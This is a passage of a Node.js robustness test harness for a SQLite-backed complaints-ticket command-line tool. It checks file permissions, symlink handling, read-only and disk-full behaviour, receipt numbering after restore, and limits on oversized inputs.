      for (const first of [['log', '--name', 'A', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 's', '--at', AT, '--yes'], ['list'], ['calendar', 'show'], ['verify']]) {
        const id = `empty ${modeStr(pre)} file as db, first command ${first[0]}`;
        cases.push({
          id, desc: id, run: async () => {
            const p = [];
            const d = userDir();
            const db = path.join(d, 'c.db');
            fs.writeFileSync(db, '');
            fs.chownSync(db, uid, gid);
            fs.chmodSync(db, pre);
            const r = await as(db, first);
            basic(r, p);
            if (r.code !== 0) oneLine(r, p);
            for (const f of [db, `${db}-wal`, `${db}-shm`]) {
              const st = fileState(f);
              if (st.exists && (st.mode & ~0o660 & 0o777)) p.push(`${path.basename(f)} ends ${modeStr(st.mode)} (more open than 0660)`);
            }
            return p;
          },
        });
      }
    }
    // b. umask 000: created folders and file
    for (const [first, label] of [[['log', '--name', 'A', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 's', '--at', AT, '--yes'], 'log'], [['list'], 'list'], [['calendar', 'show'], 'calendar show'], [['sla', 'show'], 'sla show']]) {
      for (const depth of [1, 2]) {
        const id = `umask 000, ${label}, db ${depth} new folder(s) deep`;
        cases.push({
          id, desc: id, run: async () => {
            const p = [];
            const d = userDir();
            const parts = depth === 1 ? ['new1'] : ['new1', 'new2'];
            const db = path.join(d, ...parts, 'c.db');
            const r = await as(db, first, { umask: '000' });
            basic(r, p);
            if (r.code !== 0) oneLine(r, p);
            let acc = d;
            for (const part of parts) {
              acc = path.join(acc, part);
              const st = fileState(acc);
              if (st.exists && (st.mode & 0o002)) p.push(`created folder ${part} is ${modeStr(st.mode)} (world-writable)`);
            }
            for (const f of [db, `${db}-wal`, `${db}-shm`]) {
              const st = fileState(f);
              if (st.exists && (st.mode & ~0o660 & 0o777)) p.push(`${path.basename(f)} is ${modeStr(st.mode)} under umask 000`);
            }
            return p;
          },
        });
      }
    }
    // c. a dangling symlink at the database path
    for (const cmd of [['log', '--name', 'A', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 's', '--at', AT, '--yes'], ['list'], ['verify'], ['calendar', 'show'], ['show', 'C2026-00001']]) {
      for (const where of ['existing folder', 'missing folder']) {
        const id = `dangling symlink db (target in ${where}), ${cmd[0]}`;
        cases.push({
          id, desc: id, run: async () => {
            const p = [];
            const d = userDir();
            const target = where === 'existing folder' ? path.join(d, 'elsewhere.db') : path.join(d, 'gone', 'elsewhere.db');
            const db = path.join(d, 'c.db');
            fs.symlinkSync(target, db);
            fs.lchownSync(db, uid, gid);
            const r = await as(db, cmd);
            basic(r, p);
            exitIs(r, [1, 2], p);
            oneLine(r, p);
            if (fs.existsSync(target)) p.push('database created at the symlink target');
            if (fs.existsSync(path.dirname(target)) && where === 'missing folder') p.push('target folder created');
            return p;
          },
        });
      }
    }
    // d. read-only situations
    const readers = [
      ['list', ['list', '--as-of', ASOF]], ['show', ['show', 'C2026-00002', '--as-of', ASOF]], ['show --explain', ['show', 'C2026-00002', '--explain', '--as-of', ASOF]],
      ['verify', ['verify']], ['report', ['report', ...MONTH]], ['overdue', ['overdue', '--as-of', ASOF]], ['calendar show', ['calendar', 'show']], ['sla show', ['sla', 'show']],
      ['backup to a writable folder', ['backup', '__OUT__'], 'mayRefuse'],
    ];
    const writers = [
      ['log', ['log', '--name', 'A', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 's', '--at', AT, '--yes']],
      ['note', ['note', 'C2026-00002', '--message', 'm', '--at', AT]], ['assign', ['assign', 'C2026-00001', '--unit', 'U', '--at', AT]],
      ['calendar holiday add', ['calendar', 'holiday', 'add', '2026-12-24']], ['sla set', ['sla', 'set', 'resolve', 'general', '6wd']],
      ['close', ['close', 'C2026-00002', '--resolution', 'r', '--fault', 'company', '--at', AT]],
    ];
    const scenarios = [
      // name, setup(dir, db) -> holder|null, readers must succeed?
      ['read-only folder, db 0440, no -shm', (d, db) => { fs.chmodSync(db, 0o440); fs.chmodSync(d, 0o555); return null; }, false],
      ['read-only folder, db 0440, -wal/-shm present', (d, db) => {
        const h = new Database(db); h.prepare('SELECT count(*) FROM tickets').get();
        for (const f of [db, `${db}-wal`, `${db}-shm`]) if (fs.existsSync(f)) { fs.chownSync(f, uid, gid); fs.chmodSync(f, 0o640); }
        if (!fs.existsSync(`${db}-shm`)) throw new Error('no -shm while a connection is open');
        fs.chmodSync(db, 0o440); fs.chmodSync(d, 0o555); return h;
      }, true],
      ['writable folder, db file 0440', (d, db) => { fs.chmodSync(db, 0o440); return null; }, true],
      ['db owned by root 0600 (unreadable)', (d, db) => { fs.chownSync(db, 0, 0); fs.chmodSync(db, 0o600); return null; }, false],
    ];
    for (const [sname, setup, readersMustWork] of scenarios) {
      for (const [cname, args, isWriter, mayRefuse] of [...readers.map((x) => [x[0], x[1], false, x[2] === 'mayRefuse']), ...writers.map((x) => [...x, true, true])]) {
        const id = `${sname}: ${cname}`;
        cases.push({
          id, desc: id, run: async () => {
            const p = [];
            const d = userDir();
            const db = copyDb(tpl, d);
            fs.chownSync(db, uid, gid);
            fs.chmodSync(db, 0o640);
            const before = fingerprint(db);
            const holder = setup(d, db);
            const outDir = userDir();
            const realArgs = args.map((a) => (a === '__OUT__' ? path.join(outDir, 'copy.db') : a));
            const r = await as(db, realArgs);
            if (holder) holder.close();
            fs.chmodSync(d, 0o755);
            const after = fingerprint(db);
            basic(r, p);
            exitIs(r, isWriter ? [1] : readersMustWork && !mayRefuse ? [0] : [0, 1], p);
            oneLine(r, p);
            if (r.code === 1 && !/unexpected failure/.test(r.err) && !PERM_RE.test(r.err)) p.push(`refusal does not name the permission: "${firstLine(r)}"`);
            const df = fpDiff(before, after);
            if (df) p.push(df);
            if (after.integrity !== 'ok' && !after.missing) p.push(`integrity_check: ${short(after.integrity)}`);
            return p;
          },
        });
      }
    }
    await runCases(cat, cases);
  } finally {
    fs.rmSync(buildCopy, { recursive: true, force: true });
    if (created) { sh(`userdel ${SWEEPUSER}`); CLEANUP.user = null; }
  }
});

// ================================================================================================
// 8. restore, then log: receipt numbers are never issued twice

category(8, 'restore: no receipt number re-issued', async (cat) => {
  const help = await cli(null, ['restore', '--help']);
  // (the old build's commander prints the global help, exit 0, for an unknown command's --help)
  const hasRestore = help.code === 0 && /Usage:\s+complaints restore/.test(help.out);
  cat.notes.push(hasRestore ? 'build has `restore`: using `complaints restore COPY`' : 'build has no `restore`: using the README manual steps');
  const logOne = (db, at, tag) => cli(db, ['log', '--name', tag, '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', tag, '--at', at, '--yes']);
  const doRestore = async (db, copy, p) => {
    if (hasRestore) {
      let r = await cli(db, ['restore', copy]);
      if (r.code === 2 && /--(yes|force)/.test(r.err)) r = await cli(db, ['restore', copy, /--yes/.test(r.err) ? '--yes' : '--force']);
      basic(r, p, 'restore');
      exitIs(r, [0], p, 'restore');
      return r.code === 0;
    }
    const v = await cli(copy, ['verify']);
    if (v.code !== 0) { p.push(`verify of the copy exits ${v.code}`); return false; }
    for (const ext of ['-wal', '-shm']) fs.rmSync(db + ext, { force: true });
    fs.copyFileSync(copy, `${db}.new`);
    fs.chmodSync(`${db}.new`, 0o660);
    fs.renameSync(`${db}.new`, db);
    return true;
  };
  const num = (no) => { const m = /^C(\d+)-(\d+)$/.exec(no); return m ? { year: m[1], n: Number(m[2]) } : null; };
  // scenario: list of steps: ['log', at] | ['backup', name] | ['restore', name]
  const at26 = (i) => `2026-11-1${i % 10} 10:${String(10 + i).padStart(2, '0')}`;
  const scenarios = [
    ['1 before, 1 after', [['log', 1], ['backup', 'a'], ['log', 1], ['restore', 'a'], ['log', 1]]],
    ['3 before, 2 after', [['log', 3], ['backup', 'a'], ['log', 2], ['restore', 'a'], ['log', 2]]],
    ['5 before, 5 after', [['log', 5], ['backup', 'a'], ['log', 5], ['restore', 'a'], ['log', 3]]],
    ['0 before, 3 after', [['cal'], ['backup', 'a'], ['log', 3], ['restore', 'a'], ['log', 1]]],
    ['2 before, 0 after', [['log', 2], ['backup', 'a'], ['restore', 'a'], ['log', 2]]],
    ['two backups, restore the older', [['log', 2], ['backup', 'a'], ['log', 2], ['backup', 'b'], ['log', 2], ['restore', 'a'], ['log', 2]]],
    ['restore, log, restore again', [['log', 2], ['backup', 'a'], ['log', 3], ['restore', 'a'], ['log', 1], ['restore', 'a'], ['log', 2]]],
    ['restore newer then older', [['log', 1], ['backup', 'a'], ['log', 2], ['backup', 'b'], ['log', 2], ['restore', 'b'], ['log', 1], ['restore', 'a'], ['log', 1]]],
    ['two years: 2025 and 2026 numbers', [['log25', 2], ['log', 1], ['backup', 'a'], ['log25', 2], ['log', 2], ['restore', 'a'], ['log25', 1], ['log', 1]]],
    ['backup into a subfolder', [['log', 2], ['backup', 'sub/a'], ['log', 2], ['restore', 'sub/a'], ['log', 2]]],
  ];
  const cases = scenarios.map(([name, steps]) => ({
    id: name, desc: name, run: async () => {
      const p = [];
      const dir = caseDir('rst');
      fs.mkdirSync(path.join(dir, 'sub'));
      const db = path.join(dir, 'c.db');
      const printed = [];
      const reissued = [];
      let i = 0;
      for (const [kind, arg] of steps) {
        if (kind === 'cal') {
          const r = await cli(db, ['calendar', 'show']);
          if (r.code !== 0) p.push(`calendar show exit ${r.code}`);
        } else if (kind === 'log' || kind === 'log25') {
          for (let k = 0; k < arg; k++) {
            const at = kind === 'log' ? at26(i++) : `2025-12-${String(10 + (i++ % 18)).padStart(2, '0')} 10:00`;
            const r = await logOne(db, at, `t${i}`);
            basic(r, p);
            const no = /C\d{4}-\d{5}/.exec(r.out)?.[0];
            if (r.code !== 0 || !no) { p.push(`log exit ${r.code} ${firstLine(r)}`); continue; }
            const cur = num(no);
            const clash = printed.filter((x) => x.year === cur.year && x.n >= cur.n);
            if (clash.length) reissued.push(`${no} (C${cur.year}-${String(Math.max(...clash.map((x) => x.n))).padStart(5, '0')} printed before)`);
            printed.push(cur);
          }
        } else if (kind === 'backup') {
          const r = await cli(db, ['backup', path.join(dir, `${arg}.db`)]);
          basic(r, p, 'backup');
          if (r.code !== 0) p.push(`backup exit ${r.code} ${firstLine(r)}`);
        } else if (kind === 'restore') {
          if (!(await doRestore(db, path.join(dir, `${arg}.db`), p))) return p;
        }
      }
      if (reissued.length) p.push(`${reissued.length} receipt number(s) issued again after restore: ${reissued.slice(0, 3).join(', ')}`);
      await integrityAndVerify(db, p);
      return p;
    },
  }));
  await runCases(cat, cases);
});

// ================================================================================================
// 9. hostile sizes

function writeIcs(file, n, { sameDay = false } = {}) {
  const fd = fs.openSync(file, 'w');
  const chunk = [];
  const flush = () => { fs.writeSync(fd, chunk.join('')); chunk.length = 0; };
  chunk.push('BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//sweep//EN\r\n');
  const start = Date.UTC(2026, 0, 1);
  for (let i = 0; i < n; i++) {
    const d = new Date(start + (sameDay ? 0 : (i % 730)) * 86400000);
    const ymd = `${d.getUTCFullYear()}${String(d.getUTCMonth() + 1).padStart(2, '0')}${String(d.getUTCDate()).padStart(2, '0')}`;
    chunk.push(`BEGIN:VEVENT\r\nUID:ev${i}@sweep\r\nDTSTAMP:20260101T000000Z\r\nDTSTART;VALUE=DATE:${ymd}\r\nSUMMARY:Holiday ${i}\r\nEND:VEVENT\r\n`);
    if (chunk.length > 5000) flush();
  }
  chunk.push('END:VCALENDAR\r\n');
  flush();
  fs.closeSync(fd);
}

category(9, 'hostile sizes', async (cat) => {
  const tpl = await mainTemplate();
  const dir = caseDir('size');
  const icsCases = [
    ['150,000 events', 150000, {}], ['30,000 events', 30000, {}], ['5,000 events', 5000, {}], ['150,000 events on one date', 150000, { sameDay: true }],
  ];
  const cases = [];
  for (const [label, n, o] of icsCases) {
    const file = path.join(dir, `ev-${n}${o.sameDay ? '-same' : ''}.ics`);
    writeIcs(file, n, o);
    cases.push({
      id: `calendar import ${label}`, desc: `calendar import ${label} (${(fs.statSync(file).size / 1e6).toFixed(1)} MB)`, run: async () => {
        const p = [];
        const db = copyDb(tpl, caseDir('ics'));
        const before = fingerprint(db);
        const r = await cli(db, ['calendar', 'import', file], { timeout: 30000, trackRss: true });
        const after = fingerprint(db);
        basic(r, p);
        if (!r.timedOut) {
          exitIs(r, [0, 1, 2], p);
          oneLine(r, p);
          if (r.code !== 0) { const df = fpDiff(before, after); if (df) p.push(df); }
        }
        if (r.peakKb > 300 * 1024) p.push(`peak RSS ${(r.peakKb / 1024).toFixed(0)} MB (limit 300)`);
        if (after.integrity !== 'ok') p.push(`integrity_check: ${short(after.integrity)}`);
        p.push(...[]);
        cat.notes.push(`calendar import ${label}: exit ${r.timedOut ? 'killed at 30s' : r.code}, ${(r.ms / 1000).toFixed(1)} s, peak RSS ${(r.peakKb / 1024).toFixed(0)} MB`);
        return p;
      },
    });
  }
  // huge text through argv (Linux caps one argument at 128 KiB, so ~130,000 bytes is the most argv can carry)
  const big = (n, ch = 'a') => ch.repeat(n);
  const textCases = [
    ['log --description 10,001 chars', (v) => logArgs({ '--description': v }), big(10001), 2],
    ['log --description 130,000 chars', (v) => logArgs({ '--description': v }), big(130000), 2],
    ['log --description 43,000 CJK chars (129 KB)', (v) => logArgs({ '--description': v }), big(43000, '诉'), 2],
    ['log --description exactly 10,000 chars (allowed)', (v) => logArgs({ '--description': v }), big(10000), 0],
    ['log --subject 130,000 chars', (v) => logArgs({ '--subject': v }), big(130000), 2],
    ['log --name 130,000 chars', (v) => logArgs({ '--name': v }), big(130000), 2],
    ['log --demand 130,000 chars', (v) => logArgs({ '--demand': v }), big(130000), 2],
    ['note --message 130,000 chars', (v) => ['note', 'C2026-00002', '--message', v, '--at', AT], big(130000), 2],
    ['close --resolution 130,000 chars', (v) => ['close', 'C2026-00002', '--resolution', v, '--fault', 'company', '--at', AT], big(130000), 2],
    ['--as 130,000 chars', (v) => ['--as', v, 'note', 'C2026-00002', '--message', 'm', '--at', AT], big(130000), 2],
    ['COMPLAINTS_USER 100,000 chars', () => ['note', 'C2026-00002', '--message', 'm', '--at', AT], big(100000), 2, true],
    ['list --search 130,000 chars', (v) => ['list', '--search', v], big(130000), 2],
  ];
  for (const [label, mk, v, expect, viaEnv] of textCases) {
    cases.push({
      id: label, desc: label, run: async () => {
        const p = [];
        const db = copyDb(tpl, caseDir('big'));
        const before = fingerprint(db);
        const r = await cli(db, mk(v), { timeout: 15000, env: viaEnv ? { COMPLAINTS_USER: v } : {} });
        const after = fingerprint(db);
        if (expect === 2) refused(r, [2], p, before, after);
        else { basic(r, p); exitIs(r, [0], p); }
        if (r.ms > 10000) p.push(`took ${(r.ms / 1000).toFixed(1)} s`);
        return p;
      },
    });
  }
  // 1 MB pasted into the interactive description prompt (a pty through script(1))
  cases.push({
    id: 'interactive description prompt, 1 MB pasted', desc: '1 MB pasted at the description prompt must be refused at once', run: async () => {
      const p = [];
      if (sh('command -v script').code !== 0) return ['NOT TESTABLE: script(1) missing'];
      const db = copyDb(tpl, caseDir('pty'));
      const cmd = [NODE, BIN, '--db', db, 'log', '--name', 'P', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 'paste', '--at', AT].map(shq).join(' ');
      const envs = { ...BASE_ENV, TERM: 'xterm', SHELL: '/bin/bash' };
      const child = spawn('script', ['-qfec', cmd, '/dev/null'], { env: envs, detached: true, stdio: ['pipe', 'pipe', 'pipe'] });
      let out = '';
      child.stdout.on('data', (d) => { out += d.toString('utf8'); if (out.length > 4e6) out = out.slice(-2e6); });
      child.stdin.on('error', () => {});
      let exited = null;
      child.on('close', (c) => { exited = c; });
      const t0 = Date.now();
      while (!/What happened/i.test(out) && Date.now() - t0 < 10000 && exited === null) await sleep(100);
      if (!/What happened/i.test(out)) {
        try { process.kill(-child.pid, 'SIGKILL'); } catch { /* gone */ }
        return [`NOT TESTABLE: description prompt not shown (${short(out.slice(-200))})`];
      }
      const mb = 'x'.repeat(64 * 1024);
      const seenFrom = out.length;
      const tPaste = Date.now();
      const write = (s) => new Promise((res) => { if (!child.stdin.write(s)) child.stdin.once('drain', res); else res(); });
      const paste = (async () => { for (let i = 0; i < 16 && exited === null; i++) await write(mb); await write('\r'); })();
      let said = false;
      while (Date.now() - tPaste < 15000 && exited === null) {
        const tail = out.slice(seenFrom);
        if (/10[,.\u202f ]?000|too long|limit/i.test(tail.replace(/\x1b\[[0-9;?]*[A-Za-z]/g, ''))) { said = true; break; }
        await sleep(200);
      }
      const secs = ((Date.now() - tPaste) / 1000).toFixed(1);
      try { process.kill(-child.pid, 'SIGKILL'); } catch { /* gone */ }
      void paste.catch(() => {});
      if (!said && exited === null) p.push(`no limit message within 15 s of pasting 1 MB (still busy at ${secs} s)`);
      if (!said && exited !== null) p.push(`exited ${exited} without naming the limit`);
      if (/unexpected failure/i.test(out)) p.push('"unexpected failure"');
      return p;
    },
  });
  await runCases(cat, cases, { jobs: 1 });
});

// ================================================================================================
// 10. messages: the disk is full

category(10, 'messages: disk full', async (cat) => {
  if (process.getuid() !== 0) { cat.untestable = 'not running as root (needs mount -t tmpfs)'; return; }
  const probe = caseDir('probe');
  const m = mountTmpfs(probe, '2m');
  if (m.code !== 0) { cat.untestable = `mount -t tmpfs not permitted: ${short(m.err)}`; return; }
  umount(probe);
  const tpl = await mainTemplate();
  const FULL_RE = /disk is full|disk full|no space|device is full|file ?system is full/i;
  const cases = [];
  // leave: bytes to leave free after filling (0 = completely full)
  const empty = await emptyTemplate();
  const D = (id, { leave = 0, dbOnTmpfs = true, args, expectCode = [1], checkNoNewFiles = false, size = '2m', from = tpl }) => cases.push({
    id, desc: id, run: async () => {
      const p = [];
      const dir = caseDir('full');
      const mnt = path.join(dir, 'mnt');
      fs.mkdirSync(mnt);
      const mo = mountTmpfs(mnt, size);
      if (mo.code !== 0) return [`NOT TESTABLE: mount failed ${short(mo.err)}`];
      try {
        const db = dbOnTmpfs ? copyDb(from, mnt) : copyDb(from, dir);
        const before = fingerprint(db);
        // fill the tmpfs, then free `leave` bytes
        sh(`dd if=/dev/zero of=${shq(path.join(mnt, 'filler'))} bs=4k 2>/dev/null; sync`);
        if (leave > 0) sh(`truncate -s -${leave} ${shq(path.join(mnt, 'filler'))}`);
        const filesBefore = fs.readdirSync(mnt).sort().join(',');
        const r = await cli(db, args(mnt, dir), { timeout: 60000 });
        basic(r, p);
        exitIs(r, expectCode, p);
        oneLine(r, p);
        if (r.code !== 0 && !FULL_RE.test(r.err)) p.push(`message does not say the disk is full: "${firstLine(r)}"`);
        fs.rmSync(path.join(mnt, 'filler'), { force: true });
        const after = fingerprint(db);
        const df = fpDiff(before, after);
        if (df) p.push(`after the refusal: ${df}`);
        if (checkNoNewFiles) {
          const now = fs.readdirSync(mnt).filter((f) => f !== 'filler').sort().join(',');
          const was = filesBefore.split(',').filter((f) => f && f !== 'filler').join(',');
          if (now !== was) p.push(`left behind on the full disk: ${now.split(',').filter((f) => !was.split(',').includes(f)).join(',')}`);
        }
        await integrityAndVerify(db, p, { label: 'afterwards' });
      } finally {
        umount(mnt);
      }
      return p;
    },
  });
  const logBig = (n) => () => ['log', '--name', 'F', '--phone', '13800000000', '--channel', 'phone', '--category', 'other', '--subject', 'full', '--description', 'd'.repeat(n), '--at', AT, '--yes'];
  for (const leave of [0, 8192, 40960]) {
    D(`log, db on a full disk (${leave} bytes free)`, { leave, args: logBig(9000) });
    D(`note, db on a full disk (${leave} bytes free)`, { leave, args: () => ['note', 'C2026-00002', '--message', 'm'.repeat(9000), '--at', AT] });
    D(`close, db on a full disk (${leave} bytes free)`, { leave, args: () => ['close', 'C2026-00002', '--resolution', 'r'.repeat(9000), '--fault', 'company', '--at', AT] });
  }
  D('calendar preset cn 2026, db on a full disk', { leave: 0, args: () => ['calendar', 'preset', 'cn', '2026'] });
  D('calendar holiday add range, db on a full disk', { leave: 4096, args: () => ['calendar', 'holiday', 'add', '2027-01-01..2027-12-31'] });
  D('sla set, db on a full disk', { leave: 0, args: () => ['sla', 'set', 'resolve', 'general', '6wd'] });
  D('demo --tickets 3000 into an empty db on a 2 MB disk', { leave: 600000, from: empty, args: () => ['demo', '--tickets', '3000', '--as-of', ASOF] });
  D('backup onto a full disk', { leave: 0, dbOnTmpfs: false, checkNoNewFiles: true, args: (mnt) => ['backup', path.join(mnt, 'copy.db')] });
  D('backup onto a nearly full disk (50 KB free)', { leave: 51200, dbOnTmpfs: false, checkNoNewFiles: true, args: (mnt) => ['backup', path.join(mnt, 'copy.db')] });
  D('report --output onto a full disk', { leave: 0, dbOnTmpfs: false, checkNoNewFiles: true, args: (mnt) => ['report', ...MONTH, '--format', 'html', '--output', path.join(mnt, 'r.html')] });
  D('report --output onto a nearly full disk (4 KB free)', { leave: 4096, dbOnTmpfs: false, checkNoNewFiles: true, args: (mnt) => ['report', ...MONTH, '--format', 'html', '--output', path.join(mnt, 'r.html')] });
  await runCases(cat, cases, { jobs: 1 });
});

// ================================================================================================
// main

const results = [];
const t0 = Date.now();
console.log(`complaints sweep: build ${BUILD}`);
console.log(`reference (old) build for planting: ${REF}; work folder ${WORK}; ${JOBS} jobs`);
for (const c of CATEGORIES) {
  if (ONLY && !ONLY.has(c.n)) continue;
  const cat = { n: c.n, name: c.name, tried: 0, clean: 0, failed: 0, harnessErrors: 0, untestable: null, notes: [], failures: [], cleanCases: [], seconds: 0 };
  const t = Date.now();
  try {
    await c.fn(cat);
  } catch (e) {
    cat.untestable = `setup failed: ${short(e.stack ?? e.message, 300)}`;
  }
  cat.seconds = Math.round((Date.now() - t) / 1000);
  // cases that could not be tested are not counted as failures
  const nt = cat.failures.filter((f) => f.why.startsWith('NOT TESTABLE'));
  if (nt.length) {
    cat.failures = cat.failures.filter((f) => !f.why.startsWith('NOT TESTABLE'));
    cat.failed -= nt.length;
    cat.tried -= nt.length;
    cat.notes.push(...nt.map((f) => `${f.id}: ${f.why}`));
  }
  cat.failures.sort((a, b) => a.id.localeCompare(b.id, 'en', { numeric: true }));
  results.push(cat);
  const head = cat.untestable
    ? `[${c.n}] ${c.name}: NOT TESTABLE - ${cat.untestable}`
    : `[${c.n}] ${c.name}: tried ${cat.tried}, clean ${cat.clean}, failed ${cat.failed}${cat.harnessErrors ? `, harness errors ${cat.harnessErrors}` : ''} (${cat.seconds}s)`;
  console.log(head);
  for (const n of cat.notes) console.log(`    note: ${n}`);
  for (const f of cat.failures) console.log(`    FAIL ${short(f.desc ?? f.id, 90)}: ${short(f.why, 200)}`);
}
const total = results.reduce((a, c) => ({ tried: a.tried + c.tried, clean: a.clean + c.clean, failed: a.failed + c.failed }), { tried: 0, clean: 0, failed: 0 });
console.log('');
console.log('summary');
for (const c of results) console.log(`  ${String(c.n).padStart(2)} ${c.name.padEnd(44)} ${c.untestable ? 'not testable' : `tried ${String(c.tried).padStart(4)}  clean ${String(c.clean).padStart(4)}  failed ${String(c.failed).padStart(4)}`}`);
console.log(`  total: tried ${total.tried}, clean ${total.clean}, failed ${total.failed} in ${Math.round((Date.now() - t0) / 1000)} s`);
fs.writeFileSync(OUT, `${JSON.stringify({
  build: BUILD, reference: REF, started: new Date(t0).toISOString(), seconds: Math.round((Date.now() - t0) / 1000), jobs: JOBS,
  total, categories: results.map((c) => ({ n: c.n, name: c.name, tried: c.tried, clean: c.clean, failed: c.failed, harness_errors: c.harnessErrors, untestable: c.untestable, seconds: c.seconds, notes: c.notes, failures: c.failures, clean_cases: c.cleanCases.sort() })),
}, null, 2)}\n`);
console.log(`JSON summary written to ${OUT}`);
if (!KEEP) fs.rmSync(WORK, { recursive: true, force: true });
else console.log(`work folder kept: ${WORK}`);
process.exit(0);
